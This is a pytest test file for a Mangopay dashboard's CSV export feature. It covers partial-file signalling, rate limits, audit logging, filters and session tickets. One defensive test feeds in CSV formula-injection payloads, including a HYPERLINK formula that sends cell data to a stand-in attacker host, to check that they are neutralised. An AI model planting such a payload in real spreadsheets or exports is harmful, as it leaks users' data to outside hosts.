"""Lists as files: whole or visibly not, of what the address asks for; and what the page that began one says of it."""

import asyncio
import re
import sqlite3
from collections.abc import AsyncIterator, Callable, Iterator, Mapping
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from random import Random
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest
import pytest_asyncio
from fastapi import FastAPI

from models.audit import Act, AuditEntry
from models.environment import Environment
from models.known import KnownUser
from models.objects.listings import LISTINGS
from models.permissions import Role
from services.bootstrap import build
from services.database import Database
from services.mangopay.client import MangopayClient
from services.mangopay.limits import WINDOW_MINUTES, RateLimit, Window
from services.mangopay.paging import Page, pages
from services.objects.exports import Progress
from services.settings import LOCAL_API_KEY, LOCAL_CLIENT_ID, Settings
from tests.browser.access import sign_up
from tests.services.access.world import stored_rows
from tests.services.mangopay.test_client import limit_headers
from tests.services.objects.shop import Row, Shop, client_of, page_of
from tests.services.search.market import NOW, learn, person
from tests.serving import Server, serving
from tests.ui.counter import VICTOR, Counter, rows_of
from tests.ui.guarded import SHELL, until
from ui import errors
from ui.components.export import MOST, Exports
from ui.components.list_state import ListState
from ui.pages import exports as page
from ui.places import Places

CONTROL = "the-token-of-the-control-plane"
LOCAL = Environment.LOCAL
USERS = LISTINGS["users"]
Answer = Callable[[httpx.Request], httpx.Response]


@pytest.fixture
def shop() -> Shop:
    shop = Shop()
    shop.lists("/users", users(250))
    return shop


@pytest.fixture
async def counter(database: Database, tmp_path: Path, shop: Shop) -> AsyncIterator[Counter]:
    settings = Settings(_env_file=None, data_dir=tmp_path, local=True, database_url=str(database.url))
    built = build(settings)
    services = replace(built, clients={LOCAL: client_of(shop)})
    places, exports, app = Places(), Exports(), FastAPI(openapi_url=None)
    page.register(places, services, exports)
    app.router.routes.extend(places.routes)
    errors.register(app, SHELL)
    counter = Counter(services, shop, exports, app)
    yield counter
    for client in counter.opened:
        client.delete()
    await services.clients[LOCAL].aclose()
    await built.clients[LOCAL].aclose()
    await built.http.aclose()
    await built.database.dispose()


def users(count: int, **fields: object) -> list[Row]:
    return [
        {"Id": f"user_m_{number}", "PersonType": "NATURAL", "CreationDate": number} | fields for number in range(count)
    ]


def second_page(answer: Answer) -> Answer:
    """Have the second page of 250 users answered in another way than the others."""
    return lambda request: answer(request) if request.url.params["page"] == "2" else page_of(users(250), request)


async def test_a_whole_list_ends_as_it_should(counter: Counter) -> None:
    button = counter.button()
    got = await counter.fetch(await button.press())
    assert (got.status, got.is_whole) == (200, True)
    assert got.headers["content-type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="users-local-\d{4}-\d\d-\d\d\.csv"', got.headers["content-disposition"])
    assert [row["Id"] for row in got.rows] == [f"user_m_{number}" for number in range(250)]
    assert list(got.rows[0]) == [column.fact.label for column in USERS.columns]
    assert got.rows[7]["Created"] == "1970-01-01T00:00:07+00:00"
    assert button.says.endswith("250 rows exported.")
    assert not button.looks_on


async def test_a_list_of_nothing_is_a_line_of_labels(counter: Counter) -> None:
    counter.shop.lists("/users", [])
    got = await counter.fetch("/exports/users.csv")
    assert got.is_whole
    assert got.body.decode().strip() == ",".join(column.fact.label for column in USERS.columns)


async def test_what_fails_in_its_midst_is_broken_off_and_the_page_says_so(counter: Counter) -> None:
    counter.shop.does("/users", second_page(lambda _: httpx.Response(500)))
    button = counter.button()
    got = await counter.fetch(await button.press())
    assert (got.status, len(got.rows), got.is_whole) == (200, 100, False)
    assert "The export stopped after 100 rows: Mangopay has a fault of its own." in button.says
    assert "The file is not complete. Export again." in button.says
    assert not button.looks_on


async def test_what_fails_at_once_is_told_by_a_page(counter: Counter) -> None:
    counter.shop.says("/users", status=500)
    button = counter.button()
    got = await counter.fetch(await button.press())
    assert (got.status, got.is_whole) == (502, True)
    assert got.body.decode().startswith("Mangopay has a fault of its own. ")
    assert "content-disposition" not in got.headers
    assert "The export stopped after 0 rows" in button.says


async def test_an_unknown_list_is_not_found_and_leaves_no_line_in_the_log(counter: Counter) -> None:
    got = await counter.fetch("/exports/passwords.csv")
    assert (got.status, got.body) == (404, b"There is no such list.")
    assert counter.shop.asked == []
    assert await stored_rows(counter.services.database, AuditEntry) == []


async def test_who_stops_it_gets_a_file_that_is_broken_off(counter: Counter) -> None:
    button = counter.button()
    got = await counter.fetch(await button.press(), at_piece=lambda _: button.button._give_up())
    assert (len(got.rows), got.is_whole) == (100, False)
    assert button.says == "Stopped after 100 of 250 rows. The file is not complete."


async def test_who_stops_it_while_it_waits_for_the_limit_hears_of_no_error(counter: Counter) -> None:
    limits = limit_headers(remaining=0, reset_at=NOW.replace(year=2100))
    counter.shop.does("/users", second_page(lambda _: httpx.Response(429, headers=limits)))
    button = counter.button()
    fetching = asyncio.create_task(counter.fetch(await button.press()))
    await until(lambda: "rows. Waiting for Mangopay's rate limit 2100-11-22 12:00:00 UTC" in button.says)
    assert button.looks_on
    button.button._give_up()
    got = await fetching
    assert (len(got.rows), got.is_whole) == (100, False)
    assert button.says == "Stopped after 100 of 250 rows. The file is not complete."


async def test_a_limit_that_is_reached_at_once_is_told_by_a_page(counter: Counter) -> None:
    late = NOW.replace(year=2100)
    counter.services.clients[LOCAL].governor.hear(
        RateLimit(tuple(Window(minutes, 9, 0, late) for minutes in WINDOW_MINUTES))
    )
    got = await counter.fetch("/exports/users.csv")
    assert got.status == 502
    assert got.body.decode().startswith("Mangopay's rate limit is reached")


async def test_rows_that_leave_the_list_in_its_midst_are_told(counter: Counter) -> None:
    counter.shop.does("/users", second_page(lambda request: page_of(users(249), request)))
    button = counter.button()
    got = await counter.fetch(await button.press())
    assert (len(got.rows), got.is_whole) == (100, False)
    assert "Rows have left the list while it was read" in button.says


async def test_who_leaves_in_its_midst_is_told_no_success(counter: Counter) -> None:
    """The browser's own button to cancel a download, or a line that breaks."""
    button = counter.button()
    got = await counter.fetch(await button.press(), leaves_after=1)
    assert not got.is_whole
    assert "The export stopped after 0 rows: The download was broken off." in button.says
    assert not button.looks_on


async def test_a_database_that_fails_in_its_midst_is_told_no_success(counter: Counter) -> None:
    def lose_the_index(_piece: int) -> None:
        with closing(sqlite3.connect(counter.services.database.url.database or "")) as connection:
            connection.execute("DROP TABLE known_user")
            connection.commit()

    button = counter.button()
    address = await button.press()
    got = await counter.fetch(address, at_piece=lose_the_index)
    assert (len(got.rows), got.is_whole) == (100, False)
    assert "The export stopped after 100 rows: The database does not answer just now." in button.says


async def test_who_is_signed_out_meanwhile_gets_no_further_row(counter: Counter) -> None:
    sessions = {1}
    actor = replace(VICTOR, is_alive=lambda: 1 in sessions)
    button = counter.button()
    got = await counter.fetch(await button.press(), actor, at_piece=lambda _: sessions.clear())
    assert (len(got.rows), got.is_whole) == (100, False)
    assert "The export stopped after 100 rows: The session has ended." in button.says


async def test_it_is_in_the_audit_log_before_mangopay_is_asked(counter: Counter) -> None:
    seen: list[tuple[str, str, str]] = []

    def look(request: httpx.Request) -> httpx.Response:
        with closing(sqlite3.connect(counter.services.database.url.database or "")) as connection:
            seen.extend(connection.execute("SELECT who, act, about FROM audit_entry"))
        return page_of([], request)

    counter.shop.does("/kyc/documents", look)
    await counter.fetch("/exports/kyc-documents.csv?Status=REFUSED&Type=")
    assert seen == [("victor@example.com", "export", "kyc documents Status=REFUSED")]


@pytest.mark.parametrize(
    ("address", "about"),
    [
        ("/exports/users.csv?Name=Alice+Martin&KYCLevel=LIGHT", "users Name=…, KYCLevel=LIGHT"),
        ("/exports/events.csv?EventType=KYC_SUCCEEDED", "events EventType=KYC_SUCCEEDED"),
        ("/exports/kyc-documents.csv?since=1793491200000", "kyc documents since 2026-11-01"),
        ("/exports/user-wallets.csv?of=user_m_1&page=2&sort=x", "wallets user_m_1"),
    ],
)
async def test_the_audit_log_tells_what_was_exported_and_no_name_that_was_typed(
    counter: Counter, address: str, about: str
) -> None:
    for path in ("/events", "/kyc/documents", "/users/user_m_1/wallets"):
        counter.shop.lists(path, [])
    assert (await counter.fetch(address)).is_whole
    [entry] = await stored_rows(counter.services.database, AuditEntry)
    assert entry.about == about


async def test_what_failed_at_once_is_in_the_audit_log_too(counter: Counter) -> None:
    counter.shop.says("/users", status=403)
    await counter.fetch("/exports/users.csv")
    [entry] = await stored_rows(counter.services.database, AuditEntry)
    assert (entry.act, entry.about, entry.who) == (Act.EXPORT, "users", "victor@example.com")


async def test_no_tag_of_a_user_becomes_a_formula(counter: Counter) -> None:
    tags = ['=HYPERLINK("http://mallory.test?"&A1)', "@SUM(1)", "+1", "-1+1", "\t=1", "\r=1", 'a",=1\r\n=1', "vip"]
    counter.shop.lists("/users", [{"Id": str(number), "Tag": tag} for number, tag in enumerate(tags)])
    got = await counter.fetch("/exports/users.csv")
    assert [row["Tag"] for row in got.rows] == [f"'{tag}" for tag in tags[:6]] + tags[6:]


async def test_amounts_are_in_major_units_and_words_are_mangopays_own(counter: Counter) -> None:
    wallet = {"Id": "w", "Balance": {"Amount": 123_456, "Currency": "EUR"}, "Description": "Alice's, €"}
    counter.shop.lists("/users/alice/wallets", [wallet])
    [row] = (await counter.fetch("/exports/user-wallets.csv?of=alice")).rows
    assert (row["Balance"], row["Balance currency"], row["Description"]) == ("1234.56", "EUR", "Alice's, €")


async def test_the_query_narrows_it_as_it_narrows_the_page(counter: Counter) -> None:
    counter.shop.lists("/kyc/documents", [])
    await counter.fetch("/exports/kyc-documents.csv?Status=REFUSED&since=1793491200000&page=3&Nature=x")
    asked = counter.shop.query
    assert asked == {
        "page": "1",
        "per_page": "100",
        "Sort": "CreationDate:ASC",
        "Status": "REFUSED",
        "AfterDate": "1793491200",
    }


async def test_of_users_whose_names_are_known_here_the_file_tells_them(counter: Counter) -> None:
    counter.shop.lists("/users", [person(1) | {"FirstName": None}, person(2)])
    await learn(counter.services.database, person(1, "Alice", "Martin"), environment=LOCAL)
    first, second = (await counter.fetch("/exports/users.csv")).rows
    assert (first["Name"], first["Country"]) == ("Alice Martin", "FR")
    assert (second["Name"], second["Country"]) == ("", "")


@pytest.mark.parametrize("query", ["Name=Bob", "KYCLevel=REGULAR", "Country=de", "Name=bob&KYCLevel=REGULAR&sort=name"])
async def test_users_that_are_looked_for_come_from_the_index(counter: Counter, query: str) -> None:
    bob = person(2, "Bob", "Seller", KYCLevel="REGULAR", CountryOfResidence="DE", Tag="=1")
    await learn(counter.services.database, person(1), bob, person(3), environment=LOCAL)
    await learn(counter.services.database, person(4, "Bob", "Elsewhere", KYCLevel="REGULAR", CountryOfResidence="DE"))
    got = await counter.fetch(f"/exports/users.csv?{query}")
    assert got.is_whole
    [row] = got.rows
    assert (row["Name"], row["Country"], row["Tag"], row["KYC"]) == ("Bob Seller", "DE", "'=1", "REGULAR")
    assert counter.shop.asked == []
    [entry] = await stored_rows(counter.services.database, AuditEntry)
    assert entry.about.startswith("users ")


async def test_of_users_that_nobody_knows_there_is_a_line_of_labels(counter: Counter) -> None:
    button = counter.button(ListState(filters={"Name": "Nobody"}))
    got = await counter.fetch(await button.press())
    assert (got.status, got.is_whole) == (200, True)
    assert got.body.decode().strip() == ",".join(column.fact.label for column in USERS.columns)
    assert button.says.endswith("0 rows exported.")


async def test_all_users_of_the_index_are_in_it_once_unless_somebody_stops_it(counter: Counter) -> None:
    database = counter.services.database
    known = [
        KnownUser(environment=LOCAL, user_id=f"u{number}", kyc_level="LIGHT", created_at=NOW) for number in range(1_050)
    ]
    ids_known = [user.user_id for user in known]
    async with database.session() as session:
        session.add_all(known)
        await session.commit()
    whole, stopped = (counter.button(ListState(filters={"KYCLevel": "LIGHT"})) for _ in range(2))
    got = await counter.fetch(await whole.press())
    assert got.is_whole
    assert sorted(row["Id"] for row in got.rows) == sorted(ids_known)
    assert whole.says.endswith("1,050 rows exported.")
    got = await counter.fetch(await stopped.press(), at_piece=lambda _: stopped.button._give_up())
    assert (len(got.rows), got.is_whole) == (1_000, False)
    assert stopped.says == "Stopped after 1,000 rows. The file is not complete."


async def test_the_button_leads_to_what_its_page_shows(counter: Counter) -> None:
    state = ListState(filters={"Status": "REFUSED"}, sort="x", ascending=True, page=3, per_page=50)
    address = urlsplit(await counter.button(state, listing="user-kyc-documents", of="alice").press())
    assert address.path == "/exports/user-kyc-documents.csv"
    query = {name: values[0] for name, values in parse_qs(address.query).items()}
    assert query.pop("ticket")
    assert query.items() >= {"Status": "REFUSED", "of": "alice"}.items()


async def test_a_page_watches_its_own_export_alone(counter: Counter) -> None:
    first, second = counter.button(), counter.button()
    mine, _ = await first.press(), await second.press()
    await counter.fetch(mine)
    assert first.says.endswith("250 rows exported.")
    assert second.says == "0 rows"


async def test_a_ticket_is_good_once_and_for_its_own_session(counter: Counter) -> None:
    exports = counter.exports
    ticket, progress = exports.begin(VICTOR)
    assert exports.take(ticket, VICTOR) is progress
    assert exports.take(ticket, VICTOR) is not progress
    ticket, progress = exports.begin(VICTOR)
    assert exports.take(ticket, replace(VICTOR, session_id=2)) is not progress
    # Whoever guesses it uses it up for nobody.
    assert exports.take(ticket, VICTOR) is progress
    assert exports.take("", VICTOR) is not exports.take("", VICTOR)


async def test_so_many_exports_are_watched_and_the_oldest_go(counter: Counter) -> None:
    begun = [counter.exports.begin(VICTOR) for _ in range(MOST + 1)]
    taken = [counter.exports.take(ticket, VICTOR) is progress for ticket, progress in begun]
    assert taken == [False] + [True] * MOST


@pytest.mark.parametrize(
    ("progress", "says"),
    [
        (Progress(), "0 rows"),
        (Progress(done=1_200, total=3_400), "1,200 of 3,400 rows"),
        (Progress(done=3_400, total=3_400, has_ended=True), "3,400 rows exported."),
        (Progress(done=1_200, total=3_400, waits_until=NOW), "1,200 of 3,400 rows. Waiting for Mangopay's rate limit"),
        (Progress(done=1_200, error="No.", has_ended=True), "The export stopped after 1,200 rows: No."),
    ],
    ids=["begun", "under way", "done", "waiting", "failed"],
)
async def test_the_page_says_how_far_it_is(counter: Counter, progress: Progress, says: str) -> None:
    button = counter.button()
    await button.press()
    button.button._progress = progress
    assert says in button.says
    assert button.looks_on is not progress.has_ended


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with serving(tmp_path_factory.mktemp("exports"), DASHBOARD_EMULATOR_CONTROL=CONTROL) as server:
        yield server


def control(server: Server, method: str, path: str, body: Mapping[str, object]) -> None:
    url, headers = f"{server.base_url}/emulator/_control{path}", {"Authorization": f"Bearer {CONTROL}"}
    httpx.request(method, url, json=body, headers=headers, timeout=120, trust_env=False).raise_for_status()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def session(server: Server) -> tuple[str, str]:
    """Victor's, in a Local that has more users than fit on two pages."""
    session = await sign_up(server, "victor@example.com", Role.VIEWER)
    control(server, "POST", "/seed", {"Users": 230, "Transactions": 0})
    return session


@pytest.fixture
async def victor(server: Server, session: tuple[str, str]) -> AsyncIterator[httpx.AsyncClient]:
    """Victor, who may only view, at the dashboard as it is served."""
    async with httpx.AsyncClient(base_url=server.base_url, cookies=dict([session]), verify=False, timeout=60) as http:
        yield http


@pytest.fixture
async def mangopay(server: Server) -> AsyncIterator[MangopayClient]:
    """The same Local, past the dashboard."""
    client = MangopayClient(
        LOCAL, base_url=f"{server.base_url}/emulator", client_id=LOCAL_CLIENT_ID, api_key=LOCAL_API_KEY
    )
    yield client
    await client.aclose()


async def ids(mangopay: MangopayClient, path: str, **query: str) -> list[str]:
    """Return the ids of a whole list, the oldest first."""
    query = {"Sort": "CreationDate:ASC", **query}

    async def list_page(*, page: int, per_page: int) -> Page[Mapping[str, object]]:
        return await mangopay.list_objects(f"/v2.01/local{path}", page=page, per_page=per_page, query=query)

    return [str(row["Id"]) async for found in pages(list_page) for row in found.items]


async def test_a_file_has_all_users_of_the_environment_the_oldest_first(
    victor: httpx.AsyncClient, mangopay: MangopayClient
) -> None:
    before = await ids(mangopay, "/users")
    answer = await victor.get("/exports/users.csv")
    after = await ids(mangopay, "/users")
    assert answer.status_code == 200
    assert answer.headers["content-disposition"].startswith('attachment; filename="users-local-')
    rows = rows_of(answer.content)
    exported = [row["Id"] for row in rows]
    # Somebody may have come meanwhile; whoever was there is in it, once.
    assert len(before) >= 230
    assert set(before) <= set(exported) <= set(after)
    assert len(exported) == len(set(exported))
    assert [row["Created"] for row in rows] == sorted(row["Created"] for row in rows)
    assert list(rows[0]) == [column.fact.label for column in USERS.columns]


async def test_filters_in_the_address_narrow_the_file(
    victor: httpx.AsyncClient, mangopay: MangopayClient, server: Server
) -> None:
    wanted = await ids(mangopay, "/kyc/documents", Status="VALIDATED", Type="IDENTITY_PROOF")
    answer = await victor.get("/exports/kyc-documents.csv", params={"Status": "VALIDATED", "Type": "IDENTITY_PROOF"})
    rows = rows_of(answer.content)
    assert wanted
    assert len(rows) == len(wanted) < len(await ids(mangopay, "/kyc/documents"))
    assert {(row["Type"], row["Status"]) for row in rows} == {("IDENTITY_PROOF", "VALIDATED")}
    with closing(sqlite3.connect(server.database)) as connection:
        [*_, last] = connection.execute("SELECT who, role, act, outcome, about FROM audit_entry ORDER BY id")
    about = "kyc documents Status=VALIDATED, Type=IDENTITY_PROOF"
    assert last == ("victor@example.com", "viewer", "export", "done", about)


async def test_what_belongs_to_an_object_is_exported_by_its_id(
    victor: httpx.AsyncClient, mangopay: MangopayClient
) -> None:
    user_id = (await ids(mangopay, "/users"))[-1]
    answer = await victor.get("/exports/user-wallets.csv", params={"of": user_id})
    assert [row["Id"] for row in rows_of(answer.content)] == await ids(mangopay, f"/users/{user_id}/wallets")


async def test_whoever_fetches_a_file_that_is_broken_off_notices(victor: httpx.AsyncClient, server: Server) -> None:
    # Chance lets the first page pass and strikes the second; a refusal for good, for others are asked again.
    seed = next(seed for seed in range(99) if (chance := Random(seed)).random() >= 0.5 > chance.random())
    rule = {"Kind": "error", "Status": 403, "Path": "/events", "Probability": 0.5}
    control(server, "PUT", "/faults", {"Seed": seed, "Api": [rule]})
    with pytest.raises(httpx.RemoteProtocolError):
        await victor.get("/exports/events.csv")
    control(server, "PUT", "/faults", {"Api": [rule | {"Probability": 1}]})
    answer = await victor.get("/exports/events.csv")
    control(server, "DELETE", "/faults", {})
    assert (answer.status_code, "Mangopay does not allow this" in answer.text) == (502, True)
    answer = await victor.get("/exports/events.csv")
    assert answer.status_code == 200
    assert len(rows_of(answer.content)) > 100


async def test_unknown_lists_are_not_found_and_strangers_get_nothing(victor: httpx.AsyncClient, server: Server) -> None:
    answer = await victor.get("/exports/passwords.csv")
    assert (answer.status_code, answer.text) == (404, "There is no such list.")
    async with httpx.AsyncClient(base_url=server.base_url, verify=False) as stranger:
        answer = await stranger.get("/exports/users.csv")
    assert (answer.status_code, answer.content) == (303, b"")
